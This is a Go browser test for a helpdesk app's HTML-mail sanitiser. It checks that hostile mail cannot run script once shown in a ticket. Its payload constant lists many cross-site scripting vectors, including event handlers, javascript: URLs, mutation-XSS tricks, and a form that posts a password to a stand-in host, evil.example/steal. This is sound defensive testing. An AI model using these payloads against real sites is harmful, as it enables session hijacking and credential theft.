package web

import (
	"context"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/cdproto/page"
	"github.com/chromedp/chromedp"

	"github.com/oauthimap/oauthimap/internal/testpeer"
)

// hostilePayloads try every way we know to run script from a mail; each
// sets window.__pwned (or opens a dialog) if it ever runs.
const hostilePayloads = `<p id="marker-visible">Payload text is shown.</p>
<script>window.__pwned="script"</script>
<img src=x onerror="window.__pwned='onerror'">
<svg onload="window.__pwned='svg'"><script>window.__pwned='svg-script'</script></svg>
<a href="javascript:window.__pwned='js-link'" id="js-link">a javascript: link</a>
<a href="  jAvAsCrIpT:alert('js-link-2')" id="js-link-2">a mixed-case one</a>
<meta http-equiv="refresh" content="0;url=javascript:window.__pwned='meta'">
<base href="https://evil.example/">
<form action="https://evil.example/steal"><input name="pw"><button id="form-button">Send</button></form>
<div style="background:url(javascript:window.__pwned='css')">styled</div>
<style>body{background:url(javascript:window.__pwned='style')} #x{behavior:url(x.htc)}</style>
<iframe srcdoc="<script>parent.__pwned='iframe'</script>"></iframe>
<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned='mxss'"></style></mglyph></table></mtext></math>
<noscript><p title="</noscript><img src=x onerror=window.__pwned='noscript'>"></noscript>
<object data="javascript:window.__pwned='object'"></object><embed src="javascript:window.__pwned='embed'">
<details open ontoggle="window.__pwned='ontoggle'"><summary>details</summary></details>
<p onclick="window.__pwned='onclick'" id="click-me">click me</p>
<img data-cid="nothing" onerror="alert('cid')" src="data:image/svg+xml,<svg onload=alert(1)>">
<a href="https://ok.example/" target="_top" onclick="alert('link')">a safe link</a>`

func TestBrowserHostileMailRunsNoScript(t *testing.T) {
	a := newDeskApp(t)
	first := a.importMail(corpus(t, "hostile-html.eml"))
	raw := "From: Alice Martin <alice@example.com>\r\nTo: helpdesk@example.com\r\nSubject: Re: Hostile HTML\r\n" +
		"In-Reply-To: <id-58@mail.example.com>\r\nMessage-ID: <hostile-2@example.com>\r\nMIME-Version: 1.0\r\n" +
		"Content-Type: text/html; charset=utf-8\r\n\r\n<html><body onload=\"window.__pwned='body'\">" + hostilePayloads + "</body></html>\r\n"
	second := a.importMail([]byte(raw))
	if second.TicketID != first.TicketID || second.FollowupID == 0 {
		t.Fatalf("got %+v, want the payloads as a follow-up of ticket %d", second, first.TicketID)
	}
	ctx := testpeer.Browser(t)
	step, cancel := context.WithTimeout(ctx, 60*time.Second)
	defer cancel()
	dctx, dcancel := context.WithCancel(step)
	defer dcancel()
	dialogs := chromedp.Events(dctx, page.JavascriptDialogOpening)
	if err := chromedp.Do(step,
		chromedp.Navigate(a.srv.URL+"/login"),
		chromedp.WaitVisible(chromedp.ID("login")),
		chromedp.SendKeys(chromedp.ID("login"), "tech"),
		chromedp.SendKeys(chromedp.ID("password"), testPassword),
		chromedp.Click(chromedp.ID("signin")),
		chromedp.WaitVisible(chromedp.ID("current-user")),
	); err != nil {
		t.Fatal(err)
	}
	problems := consoleProblems(step)
	if err := chromedp.Do(step,
		chromedp.Navigate(a.srv.URL+ticketURL(first.TicketID)),
		chromedp.WaitVisible(chromedp.ID("timeline")),
		chromedp.Sleep(500*time.Millisecond), // let timers, onload and refreshes fire if any survived
	); err != nil {
		t.Fatal(err)
	}
	// Both mails really rendered: a test that showed nothing would pass too.
	shown, err := chromedp.Run(step, chromedp.Evaluate[string](`document.querySelector("#timeline").innerText`))
	if err != nil || !strings.Contains(shown, "Visible text.") || !strings.Contains(shown, "Payload text is shown.") {
		t.Fatalf("the timeline shows %q (%v), want both hostile mails' text", shown, err)
	}
	// Click whatever could carry a handler or a javascript: URL (ids are
	// stripped by the sanitiser, so every paragraph and link of the mails).
	if _, err := chromedp.Run(step, chromedp.Evaluate[int](`(function(){var n=0; document.querySelectorAll(".mail-content a:not([target=_blank]), .mail-content p, .mail-content summary").forEach(function(e){e.click(); n++}); return n})()`)); err != nil {
		t.Fatal(err)
	}
	chromedp.Do(step, chromedp.Sleep(300*time.Millisecond))
	checks := []struct {
		name, expr, want string
	}{
		{"no marker set", `String(window.__pwned)`, "undefined"},
		{"still on the ticket page", `location.pathname`, ticketURL(first.TicketID)},
		{"title untouched", `String(document.title.indexOf("pwned") < 0)`, "true"},
		{"no dangerous element or attribute in the mails", `String(document.querySelectorAll(".mail-content script, .mail-content iframe, .mail-content form, .mail-content object, .mail-content embed, .mail-content base, .mail-content meta, .mail-content style, .mail-content svg, .mail-content [onclick], .mail-content [onerror], .mail-content [onload], .mail-content [ontoggle], .mail-content [style], .mail-content [src^='data:'], .mail-content a[href^='javascript' i]").length)`, "0"},
		{"no base element anywhere", `String(document.querySelectorAll("base").length)`, "0"},
	}
	for _, c := range checks {
		got, err := chromedp.Run(step, chromedp.Evaluate[string](c.expr))
		if err != nil || got != c.want {
			t.Errorf("%s: got %q (%v), want %q", c.name, got, err, c.want)
		}
	}
	testpeer.Screenshot(t, step, "ticket-hostile")
	if p := problems(); len(p) > 0 {
		t.Errorf("console errors or CSP violations:\n%s", strings.Join(p, "\n"))
	}
	time.AfterFunc(200*time.Millisecond, dcancel)
	for ev, err := range dialogs {
		if err != nil {
			break
		}
		t.Errorf("a dialog opened: %q", ev.Message)
	}
}
